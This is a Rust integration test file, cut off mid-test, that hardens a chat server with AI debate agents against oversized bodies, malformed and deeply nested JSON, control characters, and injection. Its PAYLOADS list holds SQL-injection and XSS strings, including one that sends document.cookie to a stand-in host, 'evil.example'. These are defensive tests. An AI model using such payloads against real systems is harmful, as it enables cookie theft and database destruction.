//! Hardening: hostile input and hostile clients get exactly the contract's answers, and the users
//! who are not attacking anything keep chatting while it happens.
//!
//! Each test names the attack it plays. Raw `TcpStream`s are used wherever an HTTP or WebSocket
//! client library would normalise the request (paths with `..`, dribbled headers, silent
//! sockets), so the server sees the bytes an attacker would send. `docs/security.md` maps every
//! threat to the test here that proves it is met.

use std::{
    sync::Arc,
    time::{Duration, Instant},
};

use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD as B64};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};
use tokio_tungstenite::tungstenite::{
    self, Message,
    client::IntoClientRequest,
    protocol::frame::{
        Frame,
        coding::{Data, OpCode},
    },
};

use crate::support::{TestApp, TestUser, WsClient, spawn_app, spawn_app_with, spawn_pg_app_with};

/// The largest accepted HTTP request body (contract: over 1 MiB is 413).
const MAX_BODY: usize = 1 << 20;
/// The largest accepted WebSocket text frame (contract: 256 KiB).
const MAX_FRAME: usize = 256 * 1024;

// ---------------------------------------------------------------------------------------------
// HTTP bodies
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn bodies_over_1_mib_get_413_too_large_and_a_body_of_exactly_1_mib_is_read() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;

    // Exactly 1 MiB (a valid object padded with spaces): read and handled normally.
    let exact = padded_object(r#"{"title":"exactly one mebibyte""#, MAX_BODY);
    let r = post_bytes(&app, "/api/threads", Some(&alice.token), exact).await;
    assert_eq!(r.status(), 201, "a body of exactly 1 MiB is accepted");
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["title"], "exactly one mebibyte");

    // One byte more, with a Content-Length, on several routes.
    let over = padded_object(r#"{"title":"one byte too many""#, MAX_BODY + 1);
    let thread = v["id"].as_str().unwrap().to_string();
    for (path, token) in [
        ("/api/threads".to_string(), Some(alice.token.as_str())),
        (
            format!("/api/threads/{thread}/messages"),
            Some(alice.token.as_str()),
        ),
        ("/api/auth/register".to_string(), None),
        ("/api/auth/login".to_string(), None),
    ] {
        let mut req = format!(
            "POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\nConnection: close\r\n",
            app.port,
            over.len()
        );
        if let Some(t) = token {
            req.push_str(&format!("Authorization: Bearer {t}\r\n"));
        }
        req.push_str("\r\n");
        let mut bytes = req.into_bytes();
        bytes.extend_from_slice(&over);
        let r = raw_http(app.port, bytes).await;
        assert_eq!(r.status, 413, "{path}: {}", r.text());
        assert_eq!(r.json()["error"]["code"], "too_large", "{path}");
    }

    // Chunked, with no Content-Length: counted as it arrives.
    let mut req = format!(
        "POST /api/threads HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
        app.port, alice.token
    )
    .into_bytes();
    let chunk = vec![b' '; 64 * 1024];
    for _ in 0..((2 * MAX_BODY) / chunk.len()) {
        req.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
        req.extend_from_slice(&chunk);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"0\r\n\r\n");
    let r = raw_http(app.port, req).await;
    assert_eq!(r.status, 413, "{}", r.text());
    assert_eq!(r.json()["error"]["code"], "too_large");

    // Nothing oversized was stored.
    let list: Value = app
        .get("/api/threads", Some(&alice.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["threads"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn a_body_announced_over_1_mib_is_refused_with_413_without_waiting_for_it() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    // 4 MiB announced by Content-Length, a few bytes sent: the answer must not wait for the
    // rest (a client that never sends it would otherwise hold the request open).
    let req = format!(
        "POST /api/threads HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{{\"title\":\"",
        app.port,
        alice.token,
        4 * MAX_BODY
    );
    let started = Instant::now();
    let r = raw_http_within(app.port, req.into_bytes(), Duration::from_secs(5)).await;
    let r = r.unwrap_or_else(|| {
        panic!(
            "no answer within 5 s to a request announcing 4 MiB ({:?})",
            started.elapsed()
        )
    });
    assert_eq!(r.status, 413, "{}", r.text());
    assert_eq!(r.json()["error"]["code"], "too_large");
}

#[tokio::test]
async fn invalid_deep_and_non_object_json_gets_400_invalid_json_on_every_route() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let thread = app.create_thread(&alice, "json").await;
    let deep_arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_objects = format!(
        r#"{{"title":"t","x":{}1{}}}"#,
        r#"{"a":"#.repeat(10_000),
        "}".repeat(10_000)
    );
    let depth_65 = format!(
        r#"{{"title":"t","x":{}1{}}}"#,
        "[".repeat(64),
        "]".repeat(64)
    );
    let bad: Vec<(&str, Vec<u8>)> = vec![
        ("empty body", Vec::new()),
        ("whitespace body", b"  \r\n\t ".to_vec()),
        ("not JSON", b"not json".to_vec()),
        ("truncated", br#"{"title":"t""#.to_vec()),
        ("trailing garbage", br#"{"title":"t"} trailing"#.to_vec()),
        ("two objects", br#"{"title":"a"}{"title":"b"}"#.to_vec()),
        ("array", b"[1]".to_vec()),
        ("string", br#""x""#.to_vec()),
        ("number", b"3".to_vec()),
        ("null", b"null".to_vec()),
        ("single quotes", b"{'title':'t'}".to_vec()),
        ("invalid UTF-8", b"{\"title\":\"\xff\xfe\"}".to_vec()),
        ("lone surrogate escape", br#"{"title":"\ud800"}"#.to_vec()),
        ("NaN", br#"{"title":"t","x":NaN}"#.to_vec()),
        (
            "number out of range",
            br#"{"title":"t","x":1e400}"#.to_vec(),
        ),
        ("10,000 nested arrays", deep_arrays.into_bytes()),
        ("10,000 nested objects", deep_objects.into_bytes()),
        ("65 levels", depth_65.into_bytes()),
    ];
    let routes = [
        ("/api/auth/register".to_string(), None),
        ("/api/auth/login".to_string(), None),
        ("/api/threads".to_string(), Some(alice.token.as_str())),
        (
            format!("/api/threads/{thread}/messages"),
            Some(alice.token.as_str()),
        ),
        (
            format!("/api/threads/{thread}/members"),
            Some(alice.token.as_str()),
        ),
        (
            format!("/api/threads/{thread}/debate"),
            Some(alice.token.as_str()),
        ),
    ];
    for (path, token) in &routes {
        for (what, body) in &bad {
            let r = post_bytes(&app, path, *token, body.clone()).await;
            let status = r.status().as_u16();
            let v: Value = r.json().await.unwrap_or(Value::Null);
            assert_eq!(
                (status, v["error"]["code"].as_str()),
                (400, Some("invalid_json")),
                "{path}, {what}: {v}"
            );
            assert!(v["error"]["message"].is_string(), "{path}, {what}: {v}");
        }
    }
    // 64 levels (the object itself plus 63 arrays) is still read.
    let depth_64 = format!(
        r#"{{"title":"t","x":{}1{}}}"#,
        "[".repeat(63),
        "]".repeat(63)
    );
    let r = post_bytes(
        &app,
        "/api/threads",
        Some(&alice.token),
        depth_64.into_bytes(),
    )
    .await;
    assert_eq!(r.status(), 201, "64 levels are allowed");
}

#[tokio::test]
async fn wrong_types_and_missing_fields_get_422_naming_every_bad_field() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let thread = app.create_thread(&alice, "types").await;
    let t = Some(alice.token.as_str());
    let messages = format!("/api/threads/{thread}/messages");
    let members = format!("/api/threads/{thread}/members");
    let debate = format!("/api/threads/{thread}/debate");
    let cases: Vec<(&str, Option<&str>, Value, Vec<&str>)> = vec![
        (
            "/api/auth/register",
            None,
            json!({}),
            vec!["password", "username"],
        ),
        (
            "/api/auth/register",
            None,
            json!({"username": 42, "password": ["correct horse battery"]}),
            vec!["password", "username"],
        ),
        (
            "/api/auth/register",
            None,
            json!({"username": {"$ne": null}, "password": true}),
            vec!["password", "username"],
        ),
        (
            "/api/auth/login",
            None,
            json!({}),
            vec!["password", "username"],
        ),
        (
            "/api/auth/login",
            None,
            json!({"username": ["alice"], "password": {"$gt": ""}}),
            vec!["password", "username"],
        ),
        ("/api/threads", t, json!({}), vec!["title"]),
        (
            "/api/threads",
            t,
            json!({"title": 5, "agents": "anima"}),
            vec!["agents", "title"],
        ),
        (
            "/api/threads",
            t,
            json!({"title": "ok", "agents": [1, 2]}),
            vec!["agents"],
        ),
        (&messages, t, json!({}), vec!["body", "client_id"]),
        (
            &messages,
            t,
            json!({"client_id": 7, "body": {"text": "hi"}}),
            vec!["body", "client_id"],
        ),
        (
            &messages,
            t,
            json!({"client_id": "c", "body": "hi", "agent": 3}),
            vec!["agent"],
        ),
        (
            &messages,
            t,
            json!({"client_id": "c", "body": "hi", "agent": "no-such-agent"}),
            vec!["agent"],
        ),
        (&members, t, json!({"username": null}), vec!["username"]),
        (&members, t, json!({"username": ["bob"]}), vec!["username"]),
        (
            &debate,
            t,
            json!({}),
            vec!["agents", "client_id", "rounds", "topic"],
        ),
        (
            &debate,
            t,
            json!({"client_id": "d", "topic": "t", "agents": ["anima"], "rounds": 0}),
            vec!["agents", "rounds"],
        ),
        (
            &debate,
            t,
            json!({"client_id": "d", "topic": "t", "agents": ["anima", "neo"], "rounds": 99_999_999_999_999_999_999.0}),
            vec!["rounds"],
        ),
        (
            &debate,
            t,
            json!({"client_id": "d", "topic": "t", "agents": ["anima", "neo"], "rounds": "2"}),
            vec!["rounds"],
        ),
    ];
    for (path, token, body, fields) in cases {
        let r = app.post(path, token, body.clone()).await;
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(
            (status, v["error"]["code"].as_str()),
            (422, Some("validation")),
            "{path} {body}: {v}"
        );
        let mut named: Vec<&str> = v["error"]["fields"]
            .as_object()
            .unwrap_or_else(|| panic!("{path} {body}: 422 without fields: {v}"))
            .keys()
            .map(String::as_str)
            .collect();
        named.sort_unstable();
        assert_eq!(named, fields, "{path} {body}: {v}");
        for why in v["error"]["fields"].as_object().unwrap().values() {
            assert!(why.as_str().is_some_and(|s| !s.is_empty()), "{v}");
        }
    }
}

#[tokio::test]
async fn huge_and_malformed_numbers_in_history_queries_get_422() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let thread = app.create_thread(&alice, "numbers").await;
    let cases = [
        ("limit=1e400", "limit"),
        ("limit=99999999999999999999", "limit"),
        ("limit=0", "limit"),
        ("limit=-1", "limit"),
        ("limit=1.5", "limit"),
        ("limit=abc", "limit"),
        ("limit=", "limit"),
        ("limit=%00", "limit"),
        ("limit=0x10", "limit"),
        ("limit=NaN", "limit"),
        ("after_seq=99999999999999999999", "after_seq"),
        ("after_seq=-1", "after_seq"),
        ("after_seq=1e400", "after_seq"),
        ("after_seq=%27%20OR%201%3D1", "after_seq"),
        ("before_seq=-99999999999999999999", "before_seq"),
        ("before_seq=Infinity", "before_seq"),
        ("after_seq=1&before_seq=9", "before_seq"),
    ];
    for (query, field) in cases {
        let r = app
            .get(
                &format!("/api/threads/{thread}/messages?{query}"),
                Some(&alice.token),
            )
            .await;
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(
            (status, v["error"]["code"].as_str()),
            (422, Some("validation")),
            "{query}: {v}"
        );
        assert!(v["error"]["fields"][field].is_string(), "{query}: {v}");
    }
    // Large but valid numbers are fine: the limit is clamped, far seqs give empty pages.
    for query in [
        "limit=100000",
        "after_seq=9223372036854775807",
        "before_seq=9223372036854775807&limit=500",
        "before_seq=-9223372036854775808",
    ] {
        let r = app
            .get(
                &format!("/api/threads/{thread}/messages?{query}"),
                Some(&alice.token),
            )
            .await;
        assert_eq!(r.status(), 200, "{query}");
    }
    // The same numbers in WebSocket frames: validation, and the connection stays open.
    let mut ws = app.ws(&alice).await;
    for frame in [
        json!({"type": "subscribe", "thread": thread, "after_seq": 99_999_999_999_999_999_999.0}),
        json!({"type": "subscribe", "thread": thread, "after_seq": -1}),
        json!({"type": "subscribe", "thread": thread, "after_seq": 1.5}),
        json!({"type": "debate", "thread": thread, "client_id": "d", "topic": "t",
               "agents": ["anima", "neo"], "rounds": 99_999_999_999_999_999_999.0}),
    ] {
        ws.send(frame.clone()).await;
        let e = ws.recv().await.expect("an answer");
        assert_eq!(
            (e["type"].as_str(), e["code"].as_str()),
            (Some("error"), Some("validation")),
            "{frame}: {e}"
        );
    }
    assert_pong(&mut ws, "after numbers").await;
}

#[tokio::test]
async fn control_characters_are_refused_where_the_rules_forbid_them_and_kept_verbatim_elsewhere() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let thread = app.create_thread(&alice, "controls").await;
    let messages = format!("/api/threads/{thread}/messages");

    // NUL is refused in bodies and titles; non-printable ASCII in client ids and usernames.
    let refused: Vec<(&str, Option<&str>, Value, &str)> = vec![
        (
            &messages,
            Some(&alice.token),
            json!({"client_id": "n1", "body": "a\u{0}b"}),
            "body",
        ),
        (
            "/api/threads",
            Some(&alice.token),
            json!({"title": "a\u{0}b"}),
            "title",
        ),
        (
            &messages,
            Some(&alice.token),
            json!({"client_id": "a\nb", "body": "x"}),
            "client_id",
        ),
        (
            &messages,
            Some(&alice.token),
            json!({"client_id": "a\tb", "body": "x"}),
            "client_id",
        ),
        (
            &messages,
            Some(&alice.token),
            json!({"client_id": "a\u{7f}b", "body": "x"}),
            "client_id",
        ),
        (
            &messages,
            Some(&alice.token),
            json!({"client_id": "caf\u{e9}", "body": "x"}),
            "client_id",
        ),
        (
            &messages,
            Some(&alice.token),
            json!({"client_id": "x".repeat(129), "body": "x"}),
            "client_id",
        ),
        (
            "/api/auth/register",
            None,
            json!({"username": "ab\u{0}c", "password": "correct horse battery"}),
            "username",
        ),
        (
            "/api/auth/register",
            None,
            json!({"username": "ab\u{1b}c", "password": "correct horse battery"}),
            "username",
        ),
        (
            "/api/auth/register",
            None,
            json!({"username": "ab\u{202e}cd", "password": "correct horse battery"}),
            "username",
        ),
    ];
    for (path, token, body, field) in refused {
        let r = app.post(path, token, body.clone()).await;
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(status, 422, "{path} {body}: {v}");
        assert!(
            v["error"]["fields"][field].is_string(),
            "{path} {body}: {v}"
        );
    }

    // Other control characters and bidi/zero-width tricks are text like any other.
    let odd =
        "\u{1}\u{1b}[31mred\u{1b}[0m \u{7}\u{8}\u{7f} \u{202e}gnp.exe \u{200b}\u{feff} \u{fffd}";
    let r = app
        .post("/api/threads", Some(&alice.token), json!({"title": odd}))
        .await;
    assert_eq!(r.status(), 201);
    let t: Value = r.json().await.unwrap();
    assert_eq!(t["title"], odd);
    let r = app
        .post(
            &messages,
            Some(&alice.token),
            json!({"client_id": "odd", "body": odd}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let stored = app.messages(&alice, &thread, "").await;
    assert_eq!(stored.last().unwrap()["body"], odd);
    // A NUL password is just a password (any characters are allowed).
    let r = app
        .post(
            "/api/auth/register",
            None,
            json!({"username": "nul_pw", "password": "pass\u{0}word\u{1b}!"}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let r = app
        .post(
            "/api/auth/login",
            None,
            json!({"username": "nul_pw", "password": "pass\u{0}word\u{1b}!"}),
        )
        .await;
    assert_eq!(r.status(), 200);
}

#[tokio::test]
async fn empty_and_whitespace_only_text_gets_422() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let thread = app.create_thread(&alice, "blank").await;
    let blanks = [
        "",
        " ",
        "   \n\t\r ",
        "\u{3000}\u{a0}\u{2028}\u{85}",
        "\u{2003}",
    ];
    for blank in blanks {
        let r = app
            .post(
                &format!("/api/threads/{thread}/messages"),
                Some(&alice.token),
                json!({"client_id": "blank", "body": blank}),
            )
            .await;
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(status, 422, "body {blank:?}: {v}");
        assert!(v["error"]["fields"]["body"].is_string(), "{v}");
        let r = app
            .post("/api/threads", Some(&alice.token), json!({"title": blank}))
            .await;
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(status, 422, "title {blank:?}: {v}");
        assert!(v["error"]["fields"]["title"].is_string(), "{v}");
        let r = app
            .post(
                &format!("/api/threads/{thread}/debate"),
                Some(&alice.token),
                json!({"client_id": "d", "topic": blank, "agents": ["anima", "neo"], "rounds": 1}),
            )
            .await;
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(status, 422, "topic {blank:?}: {v}");
        assert!(v["error"]["fields"]["topic"].is_string(), "{v}");
    }
    let r = app
        .post(
            &format!("/api/threads/{thread}/messages"),
            Some(&alice.token),
            json!({"client_id": "", "body": "x"}),
        )
        .await;
    assert_eq!(r.status(), 422);
    let mut ws = app.ws(&alice).await;
    for blank in blanks {
        ws.send(json!({"type": "send", "thread": thread, "client_id": "wsblank", "body": blank}))
            .await;
        let e = ws.recv().await.unwrap();
        assert_eq!(
            (e["code"].as_str(), e["client_id"].as_str()),
            (Some("validation"), Some("wsblank")),
            "{blank:?}: {e}"
        );
    }
    assert!(app.messages(&alice, &thread, "").await.is_empty());
}

#[tokio::test]
async fn bodies_of_exactly_16384_characters_after_trimming_are_accepted_and_one_more_is_refused() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let thread = app.create_thread(&alice, "limits").await;
    let path = format!("/api/threads/{thread}/messages");
    // Four-byte characters: the limit counts code points, not bytes or UTF-16 units.
    let exact = "😀".repeat(16_384);
    let r = app
        .post(
            &path,
            Some(&alice.token),
            json!({"client_id": "exact", "body": format!(" \n\u{3000}{exact}\t ")}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let m: Value = r.json().await.unwrap();
    assert_eq!(m["body"].as_str().unwrap().chars().count(), 16_384);
    assert_eq!(m["body"], exact.as_str());
    for (cid, body) in [
        ("over-emoji", "😀".repeat(16_385)),
        ("over-ascii", "x".repeat(16_385)),
        ("over-mixed", format!("{}é", "x".repeat(16_384))),
    ] {
        let r = app
            .post(
                &path,
                Some(&alice.token),
                json!({"client_id": cid, "body": body}),
            )
            .await;
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(
            (status, v["error"]["code"].as_str()),
            (422, Some("validation")),
            "{cid}"
        );
        assert!(v["error"]["fields"]["body"].is_string());
    }
    // Over WebSocket: the same rule, error frame `validation` with the client_id.
    let mut ws = app.ws(&alice).await;
    ws.send_message(&thread, "ws-over", &"😀".repeat(16_385))
        .await;
    let e = ws.recv().await.unwrap();
    assert_eq!(
        (e["code"].as_str(), e["client_id"].as_str()),
        (Some("validation"), Some("ws-over"))
    );
    ws.send_message(&thread, "ws-exact", &format!("\u{a0}{exact}\u{a0}"))
        .await;
    let ack = ws.recv_type("ack").await;
    assert_eq!(
        (ack["status"].as_str(), ack["seq"].as_i64()),
        (Some("persisted"), Some(2))
    );
    // Titles: 200 characters after trimming, 201 refused.
    let r = app
        .post(
            "/api/threads",
            Some(&alice.token),
            json!({"title": format!("  {}  ", "é".repeat(200))}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let r = app
        .post(
            "/api/threads",
            Some(&alice.token),
            json!({"title": "é".repeat(201)}),
        )
        .await;
    assert_eq!(r.status(), 422);
}

// ---------------------------------------------------------------------------------------------
// Injection: SQL metacharacters and markup are data
// ---------------------------------------------------------------------------------------------

/// Strings that break a query built by concatenation, or run in a page that renders HTML.
const PAYLOADS: &[&str] = &[
    "'; DROP TABLE messages; --",
    "\" OR \"1\"=\"1",
    "' OR '1'='1' --",
    "1); DELETE FROM users WHERE (1=1",
    "Robert'); DROP TABLE threads;--",
    "' UNION SELECT password_hash, username FROM users --",
    "%_%\\%",
    "\\'; SELECT pg_sleep(5); --",
    "$1 $2 ?1 :name @p",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "</textarea></title><!--",
];

#[tokio::test]
async fn sql_metacharacters_and_markup_in_every_text_field_are_stored_and_returned_verbatim() {
    // Four debates run at once below; the per-user agent stream limit is not under test here.
    injection_story(spawn_app_with(|s| s.limits.agent_streams_per_user = 16).await).await;
}

#[tokio::test]
async fn sql_metacharacters_and_markup_are_stored_and_returned_verbatim_on_postgresql_too() {
    injection_story(spawn_pg_app_with(|s| s.limits.agent_streams_per_user = 16).await).await;
}

/// Every text field, filled with [`PAYLOADS`], on one backend.
async fn injection_story(app: TestApp) {
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let bobs = app.create_thread(&bob, "bob's own").await;
    let bob_msg = app
        .post(
            &format!("/api/threads/{bobs}/messages"),
            Some(&bob.token),
            json!({"client_id": "b1", "body": "bob's message"}),
        )
        .await;
    assert_eq!(bob_msg.status(), 201);

    // Thread titles.
    let mut threads = Vec::new();
    for p in PAYLOADS {
        let r = app
            .post("/api/threads", Some(&alice.token), json!({"title": p}))
            .await;
        assert_eq!(r.status(), 201, "{p}");
        let t: Value = r.json().await.unwrap();
        assert_eq!(t["title"], *p);
        assert!(
            r_content_type_is_json(&app, &alice, t["id"].as_str().unwrap()).await,
            "API answers are JSON, never HTML"
        );
        threads.push(t["id"].as_str().unwrap().to_string());
    }
    for (id, p) in threads.iter().zip(PAYLOADS) {
        let t: Value = app
            .get(&format!("/api/threads/{id}"), Some(&alice.token))
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(t["title"], *p);
    }
    let list: Value = app
        .get("/api/threads", Some(&alice.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["threads"].as_array().unwrap().len(), PAYLOADS.len());

    // Message bodies and client ids (every payload is printable ASCII), over HTTP and WS, with a
    // subscriber watching.
    let thread = threads[0].clone();
    let mut watcher = app.ws(&alice).await;
    watcher.subscribe(&thread, None).await;
    for (i, p) in PAYLOADS.iter().enumerate() {
        let r = app
            .post(
                &format!("/api/threads/{thread}/messages"),
                Some(&alice.token),
                json!({"client_id": p, "body": p}),
            )
            .await;
        assert_eq!(r.status(), 201, "{p}");
        let m: Value = r.json().await.unwrap();
        assert_eq!(
            (m["body"].as_str(), m["client_id"].as_str()),
            (Some(*p), Some(*p))
        );
        assert_eq!(m["seq"], i as i64 + 1);
        let live = watcher.recv_type("message").await;
        assert_eq!(
            (live["body"].as_str(), live["client_id"].as_str()),
            (Some(*p), Some(*p))
        );
    }
    // The same client ids again: the original messages (an exact match, never a LIKE).
    for (i, p) in PAYLOADS.iter().enumerate() {
        let r = app
            .post(
                &format!("/api/threads/{thread}/messages"),
                Some(&alice.token),
                json!({"client_id": p, "body": "a different body"}),
            )
            .await;
        assert_eq!(r.status(), 200, "{p}");
        let m: Value = r.json().await.unwrap();
        assert_eq!(
            (m["seq"].as_i64(), m["body"].as_str()),
            (Some(i as i64 + 1), Some(*p))
        );
    }
    let mut ws = app.ws(&alice).await;
    for (i, p) in PAYLOADS.iter().enumerate() {
        let cid = format!("ws-{i}-{p}");
        ws.send_message(&thread, &cid, p).await;
        let ack = ws.recv_type("ack").await;
        assert_eq!(
            (ack["client_id"].as_str(), ack["status"].as_str()),
            (Some(cid.as_str()), Some("persisted"))
        );
    }
    let stored = app.messages(&alice, &thread, "?limit=500").await;
    assert_eq!(stored.len(), 2 * PAYLOADS.len());
    for (m, p) in stored.iter().zip(PAYLOADS.iter().chain(PAYLOADS.iter())) {
        assert_eq!(m["body"], *p);
    }

    // Debate topics (HTTP and WS).
    let debate_thread = threads[1].clone();
    for (i, p) in PAYLOADS.iter().take(3).enumerate() {
        let r = app
            .post(
                &format!("/api/threads/{debate_thread}/debate"),
                Some(&alice.token),
                json!({"client_id": format!("debate-{i}"), "topic": p, "agents": ["anima", "neo"], "rounds": 1}),
            )
            .await;
        assert_eq!(r.status(), 202, "{p}");
    }
    ws.send(
        json!({"type": "debate", "thread": debate_thread, "client_id": "ws-debate",
                   "topic": PAYLOADS[4], "agents": ["anima", "neo"], "rounds": 1}),
    )
    .await;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let topics: Vec<Value> = app
            .messages(&alice, &debate_thread, "?limit=500")
            .await
            .into_iter()
            .filter(|m| m["author"]["kind"] == "user")
            .collect();
        if topics.len() == 4 {
            for (m, p) in topics
                .iter()
                .zip([PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[4]])
            {
                assert_eq!(m["body"], p);
            }
            break;
        }
        assert!(
            Instant::now() < deadline,
            "debate topics were not all stored: {topics:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    // Usernames: the charset keeps quotes out; LIKE wildcards that are allowed match literally.
    for bad in ["alice'--", "' OR '1'='1", "a\"b", "<script>", "a;b", "a%b"] {
        let r = app
            .post(
                "/api/auth/register",
                None,
                json!({"username": bad, "password": "correct horse battery"}),
            )
            .await;
        assert_eq!(r.status(), 422, "{bad}");
        let r = app
            .post(
                "/api/auth/login",
                None,
                json!({"username": bad, "password": "correct horse battery"}),
            )
            .await;
        assert_eq!(r.status(), 401, "{bad}");
    }
    let underscored = app.register("a_ice").await;
    assert_ne!(
        underscored.id, alice.id,
        "'_' is a character, not a wildcard"
    );
    let r = app
        .post(
            "/api/auth/login",
            None,
            json!({"username": "a_ice", "password": "correct horse battery"}),
        )
        .await;
    assert_eq!(
        r.json::<Value>().await.unwrap()["user"]["id"],
        underscored.id.as_str()
    );
    let r = app
        .post(
            "/api/auth/login",
            None,
            json!({"username": "al_ce", "password": "correct horse battery"}),
        )
        .await;
    assert_eq!(r.status(), 401, "no wildcard match of alice");
    let r = app
        .post(
            &format!("/api/threads/{thread}/members"),
            Some(&alice.token),
            json!({"username": "b_b"}),
        )
        .await;
    assert_eq!(r.status(), 404, "'b_b' is not bob");

    // Nothing else was touched: bob's thread and message, and every account, are intact.
    let bobs_msgs = app.messages(&bob, &bobs, "").await;
    assert_eq!(bobs_msgs.len(), 1);
    assert_eq!(bobs_msgs[0]["body"], "bob's message");
    for name in ["alice", "bob"] {
        let r = app
            .post(
                "/api/auth/login",
                None,
                json!({"username": name, "password": "correct horse battery"}),
            )
            .await;
        assert_eq!(r.status(), 200, "{name} can still log in");
    }
}

#[tokio::test]
async fn ids_with_nul_and_other_odd_bytes_get_404_not_a_database_error_on_postgresql() {
    // PostgreSQL refuses NUL in text parameters; an ID is attacker-chosen text that reaches a
    // query, so the answer must still be the contract's 404 (never 500, never "database down").
    let app = spawn_pg_app_with(|_| {}).await;
    let owner = app.register("owner").await;
    let stranger = app.register("stranger").await;
    let thread = app.create_thread(&owner, "secret").await;
    let not_found = json!({"error": {"code": "not_found", "message": "not found"}});
    // One request from a stranger must not take the database away from everybody else.
    let first = app.get("/api/threads/%00", Some(&stranger.token)).await;
    let first_status = first.status().as_u16();
    let ready: Value = app.get("/readyz", None).await.json().await.unwrap();
    let owners = app.get("/api/threads", Some(&owner.token)).await.status();
    assert_eq!(
        (ready["db"].as_str(), owners.as_u16()),
        (Some("up"), 200),
        "after one GET /api/threads/%00 (answered {first_status}): readyz {ready}"
    );
    for id in [
        "%00",
        "a%00b",
        &format!("{thread}%00"),
        "%C0%80",
        "%27%00%27",
    ] {
        let checks = [
            app.get(&format!("/api/threads/{id}"), Some(&stranger.token))
                .await,
            app.get(&format!("/api/threads/{id}/messages"), Some(&owner.token))
                .await,
            app.post(
                &format!("/api/threads/{id}/messages"),
                Some(&owner.token),
                json!({"client_id": "x", "body": "hi"}),
            )
            .await,
            app.post(
                &format!("/api/threads/{id}/members"),
                Some(&owner.token),
                json!({"username": "stranger"}),
            )
            .await,
            app.post(
                &format!("/api/threads/{id}/debate"),
                Some(&owner.token),
                json!({"client_id": "d", "topic": "t", "agents": ["anima", "neo"], "rounds": 1}),
            )
            .await,
        ];
        for r in checks {
            let url = r.url().path().to_string();
            let status = r.status().as_u16();
            let body: Value = r.json().await.unwrap_or(Value::Null);
            assert_eq!((status, &body), (404, &not_found), "{url}");
        }
    }
    let mut ws = app.ws(&owner).await;
    for frame in [
        json!({"type": "subscribe", "thread": "\u{0}", "after_seq": 0}),
        json!({"type": "subscribe", "thread": format!("{thread}\u{0}")}),
        json!({"type": "send", "thread": "a\u{0}b", "client_id": "c", "body": "hi"}),
        json!({"type": "debate", "thread": "\u{0}", "client_id": "d", "topic": "t",
               "agents": ["anima", "neo"], "rounds": 1}),
        json!({"type": "cancel", "stream_id": "\u{0}"}),
    ] {
        ws.send(frame.clone()).await;
        let e = ws.recv().await.expect("an answer");
        assert_eq!(
            (e["type"].as_str(), e["code"].as_str()),
            (Some("error"), Some("not_found")),
            "{frame}: {e}"
        );
    }
    // The database is still up and the owner's thread is intact.
    let r = app.get("/readyz", None).await;
    assert_eq!(r.json::<Value>().await.unwrap()["db"], "up");
    assert_eq!(
        app.get(&format!("/api/threads/{thread}"), Some(&owner.token))
            .await
            .status(),
        200
    );
}

async fn r_content_type_is_json(app: &TestApp, user: &TestUser, thread: &str) -> bool {
    let r = app
        .get(&format!("/api/threads/{thread}"), Some(&user.token))
        .await;
    r.headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.starts_with("application/json"))
}

#[tokio::test]
async fn the_ui_is_served_with_a_csp_that_forbids_inline_script_and_renders_text_as_text() {
    let app = spawn_app().await;
    let r = app.get("/", None).await;
    assert_eq!(r.status(), 200);
    let csp = r
        .headers()
        .get("content-security-policy")
        .expect("the UI has a Content-Security-Policy")
        .to_str()
        .unwrap()
        .to_string();
    let script_src = csp
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("script-src"))
        .unwrap_or_else(|| panic!("no script-src in {csp}"));
    assert!(!script_src.contains("unsafe-inline"), "{csp}");
    assert!(!script_src.contains("unsafe-eval"), "{csp}");
    assert!(!script_src.contains('*'), "{csp}");
